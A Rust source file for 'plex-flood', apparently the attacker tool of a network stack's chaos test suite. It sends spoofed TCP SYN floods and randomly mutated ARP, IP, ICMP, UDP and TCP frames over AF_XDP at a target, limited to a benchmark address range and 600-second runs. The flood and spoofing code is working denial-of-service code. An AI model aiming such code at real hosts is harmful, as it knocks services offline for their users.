//! `plex-flood`: the chaos suite's attacker. Sends frames from a Linux host's interface through
//! an AF_XDP socket (plex's own wrapper, TX only: no XDP program is attached, so the host's
//! kernel keeps receiving everything), as fast as the interface takes them or at a bounded rate,
//! for a bounded time.
//!
//! Modes:
//! - `synflood`: TCP SYNs to one address and port from spoofed sources (random addresses of a
//!   prefix, random ports, random ISNs, Linux-like options), the classic RFC 4987 attack.
//! - `fuzz`: valid frames of every kind plex parses (ARP, IPv4 with and without fragments,
//!   ICMP echo and errors, UDP, TCP with options), each mutated at random (byte flips biased to
//!   the headers, truncation, trailing garbage, length fields, checksums left right or wrong),
//!   from a seed: a run is reproducible.
//!
//! Spoofed sources share the sender's MAC, so the victim's answers (SYN-ACKs, RSTs, ICMP
//! errors) reach the sender's kernel, which drops them (the addresses are not its own) without
//! answering: no backscatter, as with real spoofed floods.
//!
//! Usage:
//!   plex-flood synflood IFACE DST_IP:PORT DST_MAC [--src-prefix 198.18.0.128/25] [--secs S]
//!                       [--rate PPS] [--seed N] [--core N]
//!   plex-flood fuzz IFACE DST_IP DST_MAC [--ports 7,80] [--src-prefix ...] [--secs S]
//!                       [--rate PPS] [--seed N] [--core N]
//! `--rate 0` (the default) sends as fast as the interface takes frames; `--secs` is at most 600.
//! Progress once a second on stderr; the last line on stdout is
//! `flood: MODE sent N frames in S s (R frames/s)`.

// Benchmarks measure wall-clock time: the sans-IO rule is for stack and coupling.
#![allow(clippy::disallowed_methods)]

use std::net::{Ipv4Addr, SocketAddrV4};
use std::process::ExitCode;
use std::time::{Duration, Instant};

use poll_loop::xsk::{Xsk, XskConfig};
use stack::rand::Rng;
use bench::frames::Builder;
use stack::wire::{checksum, MacAddr};

/// The longest run the tool accepts: it is an attacker for tests, not a weapon.
const MAX_SECS: u64 = 600;
/// Addresses a spoofed source must never take: the testbed's hosts and DVIPAs.
fn reserved(a: Ipv4Addr) -> bool {
    let o = a.octets();
    o[3] == 0 || o[3] == 255 || (o[0] == 198 && o[1] == 18 && o[2] == 0 && (o[3] <= 20 || o[3] == 100 || o[3] == 130))
}

#[derive(Clone, Copy, Debug)]
struct Prefix {
    base: u32,
    len: u8,
}

impl std::str::FromStr for Prefix {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        let (a, l) = s.split_once('/').ok_or_else(|| format!("{s:?}: a prefix is ADDR/LEN"))?;
        let a: Ipv4Addr = a.parse().map_err(|_| format!("{s:?}: bad address"))?;
        let len: u8 = l.parse().ok().filter(|l| (8..=32).contains(l)).ok_or_else(|| format!("{s:?}: length must be 8 to 32"))?;
        // The testbed's rule: traffic only inside 198.18.0.0/15.
        let o = a.octets();
        if !(o[0] == 198 && (o[1] == 18 || o[1] == 19) && len >= 15) {
            return Err(format!("{s:?}: spoofed sources must lie inside 198.18.0.0/15"));
        }
        let mask = if len == 32 { u32::MAX } else { !(u32::MAX >> len) };
        Ok(Prefix { base: u32::from(a) & mask, len })
    }
}

impl Prefix {
    fn pick(&self, rng: &mut Rng) -> Ipv4Addr {
        let span = 1u64 << (32 - self.len as u32);
        for _ in 0..64 {
            let a = Ipv4Addr::from(self.base + rng.below(span) as u32);
            if !reserved(a) {
                return a;
            }
        }
        Ipv4Addr::from(self.base | 1)
    }
}

struct Target {
    src_mac: MacAddr,
    dst_mac: MacAddr,
    dst: Ipv4Addr,
    ports: Vec<u16>,
    spoof: Prefix,
}

/// One spoofed SYN into `buf`; returns its length.
fn syn_frame(t: &Target, rng: &mut Rng, buf: &mut [u8]) -> usize {
    let src = SocketAddrV4::new(t.spoof.pick(rng), 1024 + rng.below(64_000) as u16);
    let dst = SocketAddrV4::new(t.dst, t.ports[rng.below(t.ports.len() as u64) as usize]);
    let r = rng.next_u64();
    let mut b = Builder { src_mac: t.src_mac, dst_mac: t.dst_mac, buf };
    b.tcp(src, dst, r as u32, 0, 0x02, &[], (r >> 32) as u16, (r >> 48) as u32)
}

/// One valid frame of a random kind, then mutated; returns its length.
fn fuzz_frame(t: &Target, rng: &mut Rng, buf: &mut [u8], payload: &mut [u8]) -> usize {
    let src_ip = t.spoof.pick(rng);
    let sport = 1024 + rng.below(64_000) as u16;
    let dport = if rng.chance(0.8) { t.ports[rng.below(t.ports.len() as u64) as usize] } else { rng.next_u32() as u16 };
    let src = SocketAddrV4::new(src_ip, sport);
    let dst = SocketAddrV4::new(t.dst, dport);
    let plen = match rng.below(4) {
        0 => 0,
        1 => rng.below(64) as usize,
        2 => rng.below(600) as usize,
        _ => rng.below(1400) as usize,
    };
    rng.fill(&mut payload[..plen]);
    let ident = rng.next_u32() as u16;
    let kind = rng.below(10);
    let mut b = Builder { src_mac: t.src_mac, dst_mac: t.dst_mac, buf };
    let mut len = match kind {
        0 => {
            let op = if rng.chance(0.5) { 1 } else { 2 };
            let tha = if op == 1 { MacAddr([0; 6]) } else { t.dst_mac };
            b.arp(op, t.src_mac, src_ip, tha, t.dst)
        }
        1 => b.icmp(src_ip, t.dst, 8, 0, rng.next_u32(), &payload[..plen], ident),
        2 => {
            // Destination unreachable quoting a TCP header from the victim (PMTU and friends).
            let mut q = [0u8; 28];
            q[0] = 0x45;
            q[2..4].copy_from_slice(&40u16.to_be_bytes());
            q[8] = 64;
            q[9] = 6;
            q[12..16].copy_from_slice(&t.dst.octets());
            q[16..20].copy_from_slice(&src_ip.octets());
            q[20..22].copy_from_slice(&dport.to_be_bytes());
            q[22..24].copy_from_slice(&sport.to_be_bytes());
            rng.fill(&mut q[24..28]);
            let code = rng.below(6) as u8;
            b.icmp(src_ip, t.dst, 3, code, rng.below(1500) as u32, &q, ident)
        }
        3 => b.udp(src, dst, &payload[..plen], ident),
        4 => b.tcp(src, dst, rng.next_u32(), 0, 0x02, &[], ident, rng.next_u32()),
        5 => {
            // Any flag combination, in or out of any window.
            let flags = rng.next_u32() as u8;
            b.tcp(src, dst, rng.next_u32(), rng.next_u32(), flags, &payload[..plen], ident, 0)
        }
        6 => b.tcp(src, dst, rng.next_u32(), rng.next_u32(), 0x10 | 0x08, &payload[..plen], ident, 0),
        7 => b.tcp(src, dst, rng.next_u32(), rng.next_u32(), 0x04, &[], ident, 0),
        _ => {
            // An IPv4 fragment of a UDP or ICMP datagram: first, middle or last, any offset.
            let n = b.udp(src, dst, &payload[..plen], ident);
            let off = (rng.below(8192) as u16) & 0x1fff;
            let mf = if rng.chance(0.5) { 0x2000 } else { 0 };
            let frag = if rng.chance(0.3) { mf } else { mf | off };
            b.buf[20..22].copy_from_slice(&frag.to_be_bytes());
            b.buf[24..26].fill(0);
            let c = checksum::checksum(&b.buf[14..34]);
            b.buf[24..26].copy_from_slice(&c.to_be_bytes());
            n
        }
    };
    mutate(rng, buf, &mut len, kind != 0);
    len.max(14)
}

/// Mutate a valid frame in place: flips biased to the headers, truncation, extension, length
/// fields, and the IP checksum repaired half the time so mutations reach the transports.
fn mutate(rng: &mut Rng, buf: &mut [u8], len: &mut usize, ip: bool) {
    // One frame in eight goes through untouched: the victim must keep answering valid ones.
    if rng.chance(0.125) {
        return;
    }
    let flips = 1 + rng.below(4);
    for _ in 0..flips {
        let at = if rng.chance(0.7) { 12 + rng.below(48) as usize } else { rng.below(*len as u64) as usize };
        if at < *len {
            buf[at] ^= 1 << rng.below(8);
        }
    }
    match rng.below(8) {
        0 => *len = 14 + rng.below(*len as u64 - 13) as usize,
        1 => {
            let extra = rng.below(200) as usize;
            let end = (*len + extra).min(1514);
            rng.fill(&mut buf[*len..end]);
            *len = end;
        }
        2 if ip && *len >= 34 => {
            // IP total length: random, or off by a little.
            let v = if rng.chance(0.5) { rng.next_u32() as u16 } else { (*len as u16 - 14).wrapping_add(rng.below(9) as u16).wrapping_sub(4) };
            buf[16..18].copy_from_slice(&v.to_be_bytes());
        }
        3 if ip && *len >= 34 => buf[14] = 0x40 | (rng.below(16) as u8),
        _ => {}
    }
    if ip && *len >= 34 && rng.chance(0.5) {
        let ihl = ((buf[14] & 0x0f) as usize * 4).clamp(20, 60).min(*len - 14);
        buf[24..26].fill(0);
        let c = checksum::checksum(&buf[14..14 + ihl]);
        buf[24..26].copy_from_slice(&c.to_be_bytes());
    }
}

struct Opts {
    secs: u64,
    rate: u64,
    seed: u64,
}

fn run(iface: &str, opts: &Opts, mode: &str, mut make: impl FnMut(&mut Rng, &mut [u8]) -> usize) -> Result<(), String> {
    let mut xsk = Xsk::open(&XskConfig { ifname: iface.to_string(), ..XskConfig::default() }).map_err(|e| e.to_string())?;
    let mut rng = Rng::new(opts.seed);
    let start = Instant::now();
    let end = start + Duration::from_secs(opts.secs);
    let mut sent = 0u64;
    let mut next_report = start + Duration::from_secs(1);
    let mut last_sent = 0u64;
    loop {
        let now = Instant::now();
        if now >= end {
            break;
        }
        if now >= next_report {
            eprintln!("flood: {mode} {:>3} s {:>9} frames/s", (now - start).as_secs(), sent - last_sent);
            last_sent = sent;
            next_report += Duration::from_secs(1);
        }
        let mut budget = 64usize;
        if opts.rate > 0 {
            let due = (opts.rate as f64 * (now - start).as_secs_f64()) as u64;
            if due <= sent {
                std::thread::sleep(Duration::from_micros(200));
                continue;
            }
            budget = budget.min((due - sent) as usize);
        }
        sent += xsk.tx_batch(budget, |b| Some(make(&mut rng, b))) as u64;
    }
    // Let the last frames leave before the socket closes.
    for _ in 0..100 {
        xsk.kick_if_needed();
        if xsk.in_tx() == 0 {
            break;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    let secs = start.elapsed().as_secs_f64();
    println!("flood: {mode} sent {sent} frames in {secs:.1} s ({:.0} frames/s)", sent as f64 / secs);
    Ok(())
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let opt = |name: &str| args.iter().position(|a| a == name).and_then(|i| args.get(i + 1)).cloned();
    let usage = "usage: plex-flood synflood IFACE DST_IP:PORT DST_MAC | fuzz IFACE DST_IP DST_MAC [--ports 7,80] \
                 [--src-prefix 198.18.0.128/25] [--secs S] [--rate PPS] [--seed N] [--core N]";
    let r = (|| -> Result<(), String> {
        let num = |name: &str, d: u64| -> Result<u64, String> {
            opt(name).map(|v| v.parse().map_err(|_| format!("{name} {v:?}: not a number"))).unwrap_or(Ok(d))
        };
        let opts = Opts { secs: num("--secs", 10)?, rate: num("--rate", 0)?, seed: num("--seed", 1)? };
        if opts.secs == 0 || opts.secs > MAX_SECS {
            return Err(format!("--secs must be 1 to {MAX_SECS}"));
        }
        if let Some(c) = opt("--core") {
            let id = c.parse().map_err(|_| format!("--core {c:?}: not a number"))?;
            core_affinity::set_for_current(core_affinity::CoreId { id });
        }
        let (mode, iface, dst, mac) = match &args[..] {
            [m, i, d, mac, ..] => (m.as_str(), i.as_str(), d.as_str(), mac.as_str()),
            _ => return Err(usage.into()),
        };
        let dst_mac: MacAddr = mac.parse().map_err(|_| format!("DST_MAC {mac:?}: expected like 02:00:00:00:00:01"))?;
        let src_mac: MacAddr = std::fs::read_to_string(format!("/sys/class/net/{iface}/address"))
            .map_err(|_| format!("no such interface {iface:?} in this namespace"))?
            .trim()
            .parse()
            .map_err(|e| format!("{e}"))?;
        let spoof: Prefix = opt("--src-prefix").unwrap_or_else(|| "198.18.0.128/25".into()).parse()?;
        match mode {
            "synflood" => {
                let d: SocketAddrV4 = dst.parse().map_err(|_| format!("DST {dst:?}: expected IP:PORT"))?;
                let t = Target { src_mac, dst_mac, dst: *d.ip(), ports: vec![d.port()], spoof };
                run(iface, &opts, mode, |rng, b| syn_frame(&t, rng, b))
            }
            "fuzz" => {
                let d: Ipv4Addr = dst.parse().map_err(|_| format!("DST {dst:?}: expected an IPv4 address"))?;
                let ports = opt("--ports")
                    .unwrap_or_else(|| "7,80".into())
                    .split(',')
                    .map(|p| p.parse::<u16>().map_err(|_| format!("--ports: {p:?} is not a port")))
                    .collect::<Result<Vec<_>, _>>()?;
                let t = Target { src_mac, dst_mac, dst: d, ports, spoof };
                let mut payload = vec![0u8; 1500];
                run(iface, &opts, mode, |rng, b| fuzz_frame(&t, rng, b, &mut payload))
            }
            _ => Err(usage.into()),
        }
    })();
    match r {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("plex-flood: {e}");
            ExitCode::from(2)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use stack::wire::{EthernetFrame, Ipv4Packet, Ipv4Repr, TcpPacket, TcpRepr};

    fn target() -> Target {
        Target {
            src_mac: MacAddr([2, 0, 0, 0, 0, 1]),
            dst_mac: MacAddr([2, 0, 0, 0, 0, 2]),
            dst: Ipv4Addr::new(198, 18, 0, 11),
            ports: vec![80],
            spoof: "198.18.0.128/25".parse().unwrap(),
        }
    }

    #[test]
    fn syn_frames_parse_as_valid_syns_from_spoofed_sources() {
        let t = target();
        let mut rng = Rng::new(7);
        let mut buf = [0u8; 2048];
        for _ in 0..1000 {
            let n = syn_frame(&t, &mut rng, &mut buf);
            let eth = EthernetFrame::new_checked(&buf[..n]).unwrap();
            let ipp = Ipv4Packet::new_checked(eth.payload()).unwrap();
            let ip = Ipv4Repr::parse(&ipp, true).unwrap();
            assert_eq!(ip.dst_addr, t.dst);
            assert!(!reserved(ip.src_addr) && ip.src_addr.octets()[3] >= 128, "{}", ip.src_addr);
            let tp = TcpPacket::new_checked(ipp.payload()).unwrap();
            let seg = TcpRepr::parse(&tp, ip.src_addr, ip.dst_addr, true).unwrap();
            assert_eq!(seg.dst_port, 80);
            assert!(seg.control == stack::wire::TcpControl::Syn && seg.ack_number.is_none());
            assert_eq!(seg.window_scale, Some(7));
        }
    }

    #[test]
    fn spoofed_prefixes_outside_the_testbed_range_are_refused() {
        assert!("198.20.0.0/16".parse::<Prefix>().is_err());
        assert!("198.18.0.0/14".parse::<Prefix>().is_err());
        assert!("198.19.0.0/16".parse::<Prefix>().is_ok());
    }

    #[test]
    fn fuzz_frames_are_bounded_and_reproducible() {
        let t = target();
        let (mut a, mut b) = (Rng::new(3), Rng::new(3));
        let (mut fa, mut fb) = ([0u8; 2048], [0u8; 2048]);
        let mut p = vec![0u8; 1500];
        for _ in 0..5000 {
            let na = fuzz_frame(&t, &mut a, &mut fa, &mut p);
            let nb = fuzz_frame(&t, &mut b, &mut fb, &mut p);
            assert!((14..=1514).contains(&na));
            assert_eq!(fa[..na], fb[..nb]);
        }
    }
}
